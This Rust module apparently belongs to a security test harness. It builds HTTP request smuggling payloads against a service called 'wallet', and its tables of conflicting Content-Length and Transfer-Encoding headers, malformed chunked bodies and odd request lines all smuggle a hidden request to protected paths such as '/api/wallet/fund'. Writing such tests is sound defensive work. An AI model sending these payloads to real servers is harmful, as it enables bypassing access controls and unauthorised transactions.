//! Bytes in which one reader sees one request and another reader two.

use super::{Attacks, VERIFY};
use crate::no_way_in::wire::Draft;

/// Comes last, so that a server that is still with us ends the connection.
const LAST: &[u8] = b"GET /api/wallet/balance HTTP/1.1\r\nHost: wallet\r\nConnection: close\r\n\r\n";

/// Heads that hide a length. `{n}` is the length of what follows, `{half}` less than that.
const LENGTHS: [&str; 44] = [
    "Content-Length: {n}\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: {n}",
    "Transfer-Encoding: chunked\r\nContent-Length: 0",
    "Content-Length: {n}\r\nTransfer-Encoding: xchunked",
    "Content-Length: {n}\r\nTransfer-Encoding : chunked",
    "Content-Length: {n}\r\nTransfer-Encoding:\tchunked",
    "Content-Length: {n}\r\nTransfer-Encoding:\x0bchunked",
    "Content-Length: {n}\r\nTransfer-Encoding: \"chunked\"",
    "Content-Length: {n}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Content-Length: {n}\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Content-Length: {n}\r\nTransfer-Encoding: identity, chunked",
    "Content-Length: {n}\r\nTransfer-Encoding: chunked, identity",
    "Content-Length: {n}\r\nTransfer-Encoding:\r\n chunked",
    "Content-Length: {n}\r\nX: y\r\n Transfer-Encoding: chunked",
    "Content-Length: {n}\r\nX: y\nTransfer-Encoding: chunked",
    "Content-Length: {n}\r\nX: y\rTransfer-Encoding: chunked",
    "Content-Length: {n}\r\nX: y\0Transfer-Encoding: chunked",
    "Content-Length: {n}\r\nTransfer_Encoding: chunked",
    "Content-Length: {n}\r\nTransfer-Encoding;: chunked",
    "Content-Length: {n}\r\n\x00Transfer-Encoding: chunked",
    "Content-Length: {n}\r\nConnection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    "Content-Length: {n}\r\nConnection: Content-Length",
    "Content-Length: {half}\r\nContent-Length: {n}",
    "Content-Length: {n}\r\nContent-Length: {half}",
    "Content-Length: {n}\r\nContent-Length: {n}",
    "Content-Length: 0\r\nContent-Length: {n}",
    "Content-Length: 0, {n}",
    "Content-Length: {n}, {n}",
    "Content-Length: +{n}",
    "Content-Length: 0{n}",
    "Content-Length: -1",
    "Content-Length: 0x10",
    "Content-Length: {n}.0",
    "Content-Length: {n}e0",
    "Content-Length: {n} ",
    "Content-Length: 0 {n}",
    "Content-Length:\r\n {n}",
    "Content-Length : {n}",
    "Content_Length: {n}",
    "Content-Length: 18446744073709551617",
    "Content-Length: ",
    "Content-Length: 0",
    "Transfer-Encoding: identity",
    "X: y",
];

/// Chunked bodies with `{inner}` where it may become a request. `{hex}` is its length.
const CHUNKS: [&str; 26] = [
    "0\r\n\r\n{inner}",
    "{hex}\r\n{inner}\r\n0\r\n\r\n",
    "{hex};a=b\r\n{inner}\r\n0;c\r\n\r\n",
    "{hex};\nxx\r\n{inner}\r\n0\r\n\r\n",
    "{hex};\rxx\r\n{inner}\r\n0\r\n\r\n",
    "{hex} \r\n{inner}\r\n0\r\n\r\n",
    "{hex}\t\r\n{inner}\r\n0\r\n\r\n",
    "0x{hex}\r\n{inner}\r\n0\r\n\r\n",
    "+{hex}\r\n{inner}\r\n0\r\n\r\n",
    "-{hex}\r\n{inner}\r\n0\r\n\r\n",
    "000000000000000000000{hex}\r\n{inner}\r\n0\r\n\r\n",
    "{hex}\n{inner}\n0\n\n",
    "{hex}\r{inner}\r0\r\r",
    "{hex}\r\n{inner}0\r\n\r\n",
    "{hex}\r\n{inner}\r\r\n0\r\n\r\n",
    "1\r\nxx\r\n0\r\n\r\n{inner}",
    "1\r\nxZZ0\r\n\r\n{inner}",
    "fffffffffffffffff\r\n{inner}",
    "ffffffffffffffff\r\n{inner}",
    "0\r\nX: y\r\n\r\n{inner}",
    "0\r\nContent-Length: 3\r\nHost: other\r\nAuthorization: Bearer x\r\n\r\n{inner}",
    "0\r\n{inner}",
    "0\n\n{inner}",
    "0\r\n\n{inner}",
    "00\r\n\r\n{inner}",
    "0;\r\n\r\n{inner}",
];

/// Whole first lines and heads that lead to `{path}` for some readers. `{rest}` is the ordinary rest of the head.
const HEADS: [&str; 48] = [
    "POST {path} HTTP/1.1\n{lf}\n",
    "POST {path} HTTP/1.1\r{cr}\r",
    "\r\n\r\nPOST {path} HTTP/1.1\r\n{rest}\r\n",
    "\n\nPOST {path} HTTP/1.1\r\n{rest}\r\n",
    " POST {path} HTTP/1.1\r\n{rest}\r\n",
    "\0POST {path} HTTP/1.1\r\n{rest}\r\n",
    "POST  {path} HTTP/1.1\r\n{rest}\r\n",
    "POST\t{path}\tHTTP/1.1\r\n{rest}\r\n",
    "POST {path}  HTTP/1.1\r\n{rest}\r\n",
    "POST {path} x HTTP/1.1\r\n{rest}\r\n",
    "POST {path}\x0bHTTP/1.1\r\n{rest}\r\n",
    "POST {path}\r\n{rest}\r\n",
    "POST {path} HTTP/1.0\r\n{rest}\r\n",
    "POST {path} HTTP/1.0\r\nConnection: keep-alive\r\n{rest}\r\n",
    "POST {path} HTTP/0.9\r\n{rest}\r\n",
    "POST {path} HTTP/1.2\r\n{rest}\r\n",
    "POST {path} HTTP/2.0\r\n{rest}\r\n",
    "POST {path} HTTP/1.10\r\n{rest}\r\n",
    "POST {path} HTTP/1,1\r\n{rest}\r\n",
    "POST {path} http/1.1\r\n{rest}\r\n",
    "POST {path} HTTPS/1.1\r\n{rest}\r\n",
    "POST {path} RTSP/1.0\r\n{rest}\r\n",
    "POST {path} ICE/1.0\r\n{rest}\r\n",
    "POST http://wallet{path} HTTP/1.1\r\n{rest}\r\n",
    "POST http://wallet{path} HTTP/1.0\r\n{rest}\r\n",
    "POST HTTP://other:99{path} HTTP/1.1\r\n{rest}\r\n",
    "POST https://wallet{path} HTTP/1.1\r\n{rest}\r\n",
    "POST http://user:pass@wallet{path} HTTP/1.1\r\n{rest}\r\n",
    "POST http:{path} HTTP/1.1\r\n{rest}\r\n",
    "POST http://{path} HTTP/1.1\r\n{rest}\r\n",
    "POST //wallet{path} HTTP/1.1\r\n{rest}\r\n",
    "POST wallet{path} HTTP/1.1\r\n{rest}\r\n",
    "POST wallet:80{path} HTTP/1.1\r\n{rest}\r\n",
    "POST * HTTP/1.1\r\nX-Original-URL: {path}\r\n{rest}\r\n",
    "OPTIONS * HTTP/1.1\r\nX-Original-URL: {path}\r\nX-HTTP-Method-Override: POST\r\n{rest}\r\n",
    "CONNECT wallet:80 HTTP/1.1\r\nHost: wallet\r\n\r\nPOST {path} HTTP/1.1\r\n{rest}\r\n",
    "CONNECT {path} HTTP/1.1\r\n{rest}\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nPOST {path} HTTP/1.1\r\n{rest}\r\n",
    "GET /user/login HTTP/1.1 HTTP/1.1\r\n{rest}\r\n",
    "GET / HTTP/1.1\r\n\tPOST {path} HTTP/1.1\r\n{rest}\r\n",
    "GET / HTTP/1.1\r\nX: y\r\n\r\n\r\nPOST {path} HTTP/1.1\r\n{rest}\r\n",
    "POST {path} HTTP/1.1\r\nX: y\r\n folded\r\n{rest}\r\n",
    "POST {path} HTTP/1.1\r\n X: y\r\n{rest}\r\n",
    "POST {path} HTTP/1.1\r\nX : y\r\n{rest}\r\n",
    "POST {path} HTTP/1.1\r\nX\r\n{rest}\r\n",
    "POST {path} HTTP/1.1\r\n: y\r\n{rest}\r\n",
    "POST {path} HTTP/1.1\r\nX: a\0b\r\n{rest}\r\n",
    "POST {path} HTTP/1.1\r\nHost: other\r\n{rest}\r\n",
];

/// Requests that no route names, before the protected one.
const OPENERS: [&str; 12] = [
    "GET /api/wallet/balance HTTP/1.1\r\nHost: wallet\r\n\r\n",
    "HEAD /api/wallet/balance HTTP/1.1\r\nHost: wallet\r\n\r\n",
    "GET /nothing HTTP/1.1\r\nHost: wallet\r\n\r\n",
    "GET /api/wallet/balance HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
    "POST /user/login HTTP/1.1\r\nHost: wallet\r\nContent-Length: 0\r\n\r\n",
    "POST /user/login HTTP/1.1\r\nHost: wallet\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST /user/login HTTP/1.1\r\nHost: wallet\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\n{}",
    "OPTIONS * HTTP/1.1\r\nHost: wallet\r\n\r\n",
    "TRACE / HTTP/1.1\r\nHost: wallet\r\n\r\n",
    "GET /ws HTTP/1.1\r\nHost: wallet\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: \r\n\r\n",
    "GET /user/login HTTP/1.1\r\nHost: wallet\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
    "GET /ws HTTP/1.1\r\nHost: wallet\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777\r\n\r\n",
];

pub fn add(attacks: &mut Attacks) {
    for path in [VERIFY[0], "/api/wallet/fund"] {
        for opener in OPENERS {
            for times in [1, 3] {
                let bytes = [opener.as_bytes().repeat(times), inner(attacks, path)].concat();
                ended(attacks, bytes);
            }
        }
        for outer in ["POST /user/login", "GET /api/wallet/balance", &format!("POST {path}")] {
            for length in LENGTHS {
                add_length(attacks, path, outer, length);
            }
        }
        for chunks in CHUNKS {
            add_chunks(attacks, path, chunks);
        }
        for head in HEADS {
            add_head(attacks, path, head);
        }
    }
}

/// A whole request to a protected path. A code is wrong; `fund` has no caller.
fn inner(attacks: &Attacks, path: &str) -> Vec<u8> {
    let draft = if VERIFY.contains(&path) { attacks.ordinary(path) } else { nobody(path) };
    draft.header("X-Mark", &attacks.all.len().to_string()).bytes()
}

fn nobody(path: &str) -> Draft {
    Draft::new("POST", path).json(r#"{"amount":5000}"#)
}

fn ended(attacks: &mut Attacks, bytes: Vec<u8>) {
    attacks.burst([bytes, LAST.to_vec()].concat());
}

fn add_length(attacks: &mut Attacks, path: &str, outer: &str, length: &str) {
    let inner = inner(attacks, path);
    // As a body, and as what follows an empty chunked body.
    for before in ["", "0\r\n\r\n"] {
        let n = before.len() + inner.len();
        let length = length.replace("{n}", &n.to_string()).replace("{half}", &(n / 2).to_string());
        let mark = attacks.all.len();
        let head =
            format!("{outer} HTTP/1.1\r\nHost: wallet\r\nX-Mark: {mark}\r\nContent-Type: text/plain\r\n");
        let inner = self::inner(attacks, path);
        let head = format!("{head}{length}\r\n\r\n{before}");
        ended(attacks, [head.as_bytes(), &inner].concat());
    }
}

fn add_chunks(attacks: &mut Attacks, path: &str, chunks: &str) {
    for outer in ["POST /user/login", "GET /api/wallet/balance"] {
        for version in ["1.1", "1.0"] {
            let inner = String::from_utf8(inner(attacks, path)).unwrap();
            let body = chunks.replace("{hex}", &format!("{:x}", inner.len())).replace("{inner}", &inner);
            let head =
                format!("{outer} HTTP/{version}\r\nHost: wallet\r\nTransfer-Encoding: chunked\r\n\r\n");
            ended(attacks, format!("{head}{body}").into_bytes());
        }
    }
}

fn add_head(attacks: &mut Attacks, path: &str, head: &str) {
    let whole = String::from_utf8(inner(attacks, path)).unwrap();
    let (lines, body) = whole.split_once("\r\n\r\n").unwrap();
    let (_, lines) = lines.split_once("\r\n").unwrap();
    let rest = format!("{lines}\r\n");
    let head = head
        .replace("{path}", path)
        .replace("{lf}", &rest.replace('\r', ""))
        .replace("{cr}", &rest.replace('\n', ""))
        .replace("{rest}", &rest);
    ended(attacks, format!("{head}{body}").into_bytes());
}
